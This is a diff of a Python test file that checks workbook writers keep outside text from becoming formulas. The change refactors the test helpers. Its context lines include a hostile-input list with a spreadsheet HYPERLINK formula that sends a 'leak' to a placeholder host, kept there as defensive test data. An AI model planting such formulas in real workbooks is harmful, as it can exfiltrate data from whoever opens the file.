@@ -1,7 +1,6 @@
 """Outside text written into a workbook stays text (issue 15 items 1 and 7): the helper on its
 own, then every writer — the review summary, a marked copy's 校验结果, gknb import, gknb new."""
 
-import random
 import re
 import zipfile
 from pathlib import Path
@@ -10,11 +9,9 @@ import pytest
 from openpyxl import Workbook, load_workbook
 
 from gknb.cli import main
-from gknb.formats import FORMATS
-from gknb.review.generate import report_text
-from gknb.synth import consistent_values
 from gknb.text import CELL_TEXT_MAX, cell_text, formula_like, put
-from gknb.workbook.template import build_workbook, write_values
+from support.books import filled_values, filled_workbook
+from support.generate import report_text
 
 HOSTILE = [
     '=HYPERLINK("http://x.invalid/?leak","click")',
@@ -93,8 +90,7 @@ def _report(
     folder: Path, name: str, title: str, cells: dict | None = None, text1: str = ""
 ) -> Path:
     """A published report (text) with the given title line and table cells as printed."""
-    values = consistent_values(FORMATS["2021"], random.Random(3))
-    values.update(cells or {})
+    values = filled_values(seed=3, overrides=cells)
     body = report_text("2021", "", 2025, values)
     body = body.replace("\n2025年政府", f"{title}2025年政府", 1)
     if text1:
@@ -106,10 +102,7 @@ def _report(
 
 def _book(folder: Path, name: str, agency: str, cells: dict) -> Path:
     """A template workbook with the given agency and cells typed in as text."""
-    wb = build_workbook("2021", agency=agency, year=2025)
-    values = consistent_values(FORMATS["2021"], random.Random(3))
-    values.update(cells)
-    write_values(wb, FORMATS["2021"], values, outside=True)
+    wb = filled_workbook(seed=3, overrides=cells, agency=agency, outside=True)
     path = folder / name
     wb.save(path)
     return path
